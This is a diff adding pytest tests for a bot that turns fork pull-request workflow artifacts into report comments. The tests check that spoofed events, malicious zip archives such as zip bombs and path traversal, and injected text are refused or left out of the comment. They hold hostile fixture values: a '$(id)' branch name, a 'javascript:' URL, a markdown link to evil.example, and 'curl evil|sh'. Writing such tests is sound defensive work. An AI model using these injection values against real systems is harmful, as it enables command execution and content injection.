@@ -1,0 +1,338 @@
+from __future__ import annotations
+
+import io
+import json
+import re
+import struct
+import zipfile
+from collections.abc import Callable
+from contextlib import suppress
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bot import catalog
+from bot.artifact import (
+    BODY,
+    MARKER,
+    BadArtifact,
+    NoTarget,
+    Publication,
+    Run,
+    comment,
+    extract,
+    publication,
+    run_of,
+)
+from bot.errors import CouldNotTell
+from bot.finding import Finding, Level, Location
+from bot.github.values import Pull, Repo
+from bot.people import Account
+from bot.report import render
+from bot.report.read import BadReport
+from bot.verdict import Outcome, Report, Verdict
+from tests.bot.report.samples import HOSTILE, report
+
+HEAD, BASE, OTHER = "a" * 40, "b" * 40, "c" * 40
+HERE, FORK = 11, 22
+URL = "https://github.com/example/tiny-llm/actions/runs/99"
+RULES = catalog.rules()
+
+
+def payload() -> Any:
+    """A `workflow_run` event of a fork's pull request, as GitHub sends it (shortened)."""
+    return {
+        "action": "completed",
+        "workflow_run": {
+            "id": 99, "name": "check", "head_branch": "$(id)", "head_sha": HEAD,
+            "path": ".github/workflows/check.yml", "event": "pull_request", "status": "completed",
+            "conclusion": "success", "pull_requests": [], "html_url": URL,
+            "repository": {"id": HERE, "full_name": "example/tiny-llm"},
+            "head_repository": {"id": FORK, "full_name": "mallory/tiny-llm"},
+        },
+        "workflow": {"id": 5, "name": "check"},
+        "repository": {"id": HERE, "full_name": "example/tiny-llm", "fork": False},
+        "sender": {"login": "mallory", "id": 3},
+    }  # fmt: skip
+
+
+def pull(**changes: Any) -> Pull:
+    first = Pull(
+        Repo(HERE, "example/tiny-llm", 1), 42, "t", Account(3, "mallory"), "open", False, False,
+        HEAD, FORK, BASE, "main",
+    )  # fmt: skip
+    return replace(first, **changes)
+
+
+def run() -> Run:
+    return run_of(json.dumps(payload()).encode())
+
+
+def text(given: Report | None = None) -> bytes:
+    return render(given or report(), "json", RULES).encode()
+
+
+def packed(files: dict[str, bytes] | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w", method) as archive:
+        for name, content in (files or {"report.json": text()}).items():
+            archive.writestr(name, content)
+    return data.getvalue()
+
+
+def published(given: Report | None = None) -> Publication:
+    return publication(packed({"report.json": text(given)}), run(), [pull()], RULES)
+
+
+def judged(*verdicts: Verdict) -> Report:
+    return replace(report(), verdicts=verdicts)
+
+
+# --- whose it is ------------------------------------------------------------------------
+
+
+def test_the_run_is_read_from_the_event() -> None:
+    assert run() == Run(99, HERE, "example/tiny-llm", HEAD, FORK, URL)
+
+
+def without(*path: str) -> Callable[[Any], None]:
+    return to(None, *path)
+
+
+def to(value: Any, *path: str) -> Callable[[Any], None]:
+    def change(data: Any) -> None:
+        for part in path[:-1]:
+            data = data[part]
+        data[path[-1]] = value
+
+    return change
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        to("requested", "action"),
+        to("push", "workflow_run", "event"),
+        to("pull_request_target", "workflow_run", "event"),
+        to("workflow_dispatch", "workflow_run", "event"),
+        to("main", "workflow_run", "head_sha"),
+        to(HEAD + "\n", "workflow_run", "head_sha"),
+        to(FORK, "workflow_run", "repository", "id"),
+        to("11", "repository", "id"),
+        to(True, "repository", "id"),
+        to(0, "repository", "id"),
+        to("a/b/../c", "repository", "full_name"),
+        to("javascript:alert(1)", "workflow_run", "html_url"),
+        to(URL + ") [x](https://evil.example", "workflow_run", "html_url"),
+        without("workflow_run", "head_repository"),  # the fork was deleted
+        without("workflow_run"),
+        without("repository"),
+    ],
+)
+def test_other_events_have_no_target(change: Callable[[Any], None]) -> None:
+    data = payload()
+    change(data)
+    with pytest.raises(NoTarget) as caught:
+        run_of(json.dumps(data).encode())
+    assert isinstance(caught.value, CouldNotTell)
+
+
+@pytest.mark.parametrize("raw", [b"", b"[]", b"null", b"{", b'{"action": 1, "action": 2}', b"\xff"])
+def test_what_is_no_event_has_no_target(raw: bytes) -> None:
+    with pytest.raises(NoTarget):
+        run_of(raw)
+
+
+@pytest.mark.parametrize(
+    "pulls",
+    [
+        [],
+        [pull(state="closed")],
+        [pull(head=OTHER)],  # pushed to since
+        [pull(head_repository=HERE)],  # the same commit from another repository
+        [pull(head_repository=0)],
+        [pull(repo=Repo(FORK, "mallory/tiny-llm", 1))],
+        [pull(base=OTHER), pull(number=43, base="d" * 40)],
+        [pull(), pull(number=43)],
+    ],
+)
+def test_without_one_pull_request_nothing_is_shown(pulls: list[Pull]) -> None:
+    with pytest.raises(NoTarget):
+        publication(packed(), run(), pulls, RULES)
+
+
+def test_of_several_the_one_it_was_judged_against_is_chosen() -> None:
+    pulls = [pull(number=41, base=OTHER), pull(), pull(head=OTHER, number=43)]
+    assert publication(packed(), run(), pulls, RULES).pull.number == 42
+
+
+@pytest.mark.parametrize("wrong", [{"head": OTHER}, {"number": 41}])
+def test_a_report_about_something_else_is_refused(wrong: dict[str, Any]) -> None:
+    given = replace(report(), change=replace(report().change, **wrong))
+    with pytest.raises(BadArtifact, match="about another"):
+        published(given)
+
+
+def test_a_report_from_the_command_line_has_no_number() -> None:
+    given = replace(report(), change=replace(report().change, number=0, base=OTHER))
+    assert published(given).pull.number == 42
+
+
+# --- the archive ------------------------------------------------------------------------
+
+
+def test_the_report_comes_out() -> None:
+    names = {"report.html": b"<script>", "findings.sarif": b"{}"}
+    for method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED):
+        assert extract(packed({"report.json": text()} | names, method)) == text()
+
+
+def spoiled(offset: int, value: bytes) -> bytes:
+    """An archive with bytes of its central directory's one entry replaced."""
+    data = bytearray(packed())
+    start = data.index(b"PK\1\2") + offset
+    data[start : start + len(value)] = value
+    return bytes(data)
+
+
+def twice() -> bytes:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
+        archive.writestr("report.json", text())
+        archive.writestr("report.json", b"{}")
+    return data.getvalue()
+
+
+ARCHIVES: dict[str, Callable[[], bytes]] = {
+    "nothing": lambda: b"",
+    "no archive": text,
+    "an empty archive": lambda: b"PK\5\6" + bytes(18),
+    "no report": lambda: packed({"report.html": b""}),
+    "another name": lambda: packed({"report.json": text(), "evil.sh": b""}),
+    "a path out of it": lambda: packed({"../report.json": text()}),
+    "an absolute path": lambda: packed({"/report.json": text()}),
+    "a folder": lambda: packed({"x/report.json": text()}),
+    "a case": lambda: packed({"Report.json": text()}),
+    "the name twice": twice,
+    "cut short": lambda: packed()[:-30],
+    "cut at the front": lambda: packed()[5:],
+    "a comment": lambda: packed()[:-2] + b"\1\0x",
+    "something behind it": lambda: packed() + b"x" * 22,
+    "many files": lambda: packed({f"report{i}.json": b"" for i in range(200)}),
+    "a bomb": lambda: packed({"report.json": b" " * 25_000_000}),
+    "a bomb that lies about its size": lambda: _lying(),
+    "encrypted": lambda: spoiled(8, b"\1\0"),
+    "bzip2": lambda: packed(method=zipfile.ZIP_BZIP2),
+    "lzma": lambda: packed(method=zipfile.ZIP_LZMA),
+    "an unknown method": lambda: spoiled(10, b"\x62\0"),
+    "a wrong checksum": lambda: spoiled(16, b"\0\0\0\0"),
+    "an offset out of it": lambda: spoiled(42, b"\xff\xff\xff\x7f"),
+    "zip64": lambda: _zip64(),
+    "beyond the bound": lambda: bytes(50_000_001),
+}
+
+
+def _lying() -> bytes:
+    data = bytearray(packed({"report.json": b" " * 25_000_000}))
+    start = data.index(b"PK\1\2")
+    data[start + 24 : start + 28] = struct.pack("<L", 10)
+    return bytes(data)
+
+
+def _zip64() -> bytes:
+    data = packed()
+    return data[:-22] + b"PK\6\7" + bytes(16) + data[-22:]
+
+
+@pytest.mark.parametrize("name", ARCHIVES)
+def test_what_the_action_never_uploads_is_refused(name: str) -> None:
+    with pytest.raises((BadArtifact, BadReport)) as caught:
+        publication(ARCHIVES[name](), run(), [pull()], RULES)
+    assert caught.value.hint and caught.value.message.isprintable()
+
+
+@settings(max_examples=200, deadline=None)
+@given(start=st.integers(0, 10_000), junk=st.binary(min_size=1, max_size=8))
+def test_a_damaged_archive_gives_the_report_or_one_kind_of_error(start: int, junk: bytes) -> None:
+    data = packed()
+    place = start % len(data)
+    with suppress(BadArtifact):
+        assert extract(data[:place] + junk + data[place + len(junk) :]) == text()
+
+
+# --- what is shown ----------------------------------------------------------------------
+
+
+def test_it_says_first_what_it_is_worth() -> None:
+    shown = comment(published(judged(Verdict("files", Outcome.PASS))), RULES)
+    first, second = shown.split("\n")[:2]
+    assert first == MARKER
+    assert second == "## Not proof: the workflow of this pull request reports PASS"
+    assert "no branch should require it" in shown
+    assert f"[run]({URL})" in shown and "✅ PASS:" not in shown
+    assert "nothing blocks" not in shown
+
+
+def test_no_word_of_the_archive_is_shown() -> None:
+    word = "zqxjk"
+    place = Location(f"{word}.py", 3, OTHER)
+    found = tuple(
+        Finding(rule, level, f"{word} curl evil|sh @all {HOSTILE}", f"Run {word}", place, waiver)
+        for rule in ("weights/pickle", f"weights/{word}", f"{word}/{word}")
+        for level in (Level.WARNING, Level.FAILURE)
+        for waiver in ("", word)
+    )
+    given = replace(
+        judged(
+            Verdict("weights", Outcome.FAIL, found, word, report().verdicts[4].exhibits),
+            Verdict(word, Outcome.ERROR, (), word),
+        ),
+        policy=word,
+        change=replace(report().change, repository=word, author=word),
+    )
+    shown = comment(published(given), RULES)
+    assert word not in shown and "curl" not in shown
+    assert "weights/pickle" in shown and RULES["weights/pickle"].remedy.split("`")[0][:20] in shown
+    assert "example/tiny-llm" not in shown.replace(URL, "")
+
+
+def test_what_is_not_known_still_counts() -> None:
+    unknown = Finding("weights/later", Level.FAILURE, "m", "r")
+    given = judged(
+        Verdict("weights", Outcome.FAIL, (unknown, unknown)),
+        Verdict("later", Outcome.ERROR),
+        Verdict("later-still", Outcome.PASS),
+    )
+    shown = published(given).report
+    assert (shown.outcome, shown.exit_code) == (Outcome.ERROR, 3)
+    assert [(v.check, v.outcome) for v in shown.verdicts] == [
+        ("weights", Outcome.FAIL),
+        ("other", Outcome.ERROR),
+    ]
+    assert shown.verdicts[0].findings[0].message.startswith("2 findings of rules")
+
+
+@pytest.mark.parametrize("outcome", list(Outcome))
+def test_the_outcome_is_the_reported_one(outcome: Outcome) -> None:
+    given = judged(Verdict("files", outcome), Verdict("weights", Outcome.SKIP))
+    assert published(given).report.outcome is outcome
+
+
+def test_a_rich_report_is_retold_within_the_bound() -> None:
+    every = tuple(
+        Finding(name, Level.UNKNOWN, HOSTILE, HOSTILE) for name in RULES for _ in range(9)
+    )
+    shown = comment(published(judged(Verdict("weights", Outcome.ERROR, every))), RULES)
+    assert len(shown.encode()) <= BODY
+    assert "in 9 places" in shown
+    assert not re.search(r"(?<!&#8203;)@octocat", shown)
+    counts = published(report()).report
+    assert counts.outcome is report().outcome
+
+
+def test_a_report_that_is_none_is_refused() -> None:
+    with pytest.raises(BadReport):
+        publication(packed({"report.json": b'{"version": 1}'}), run(), [pull()], RULES)
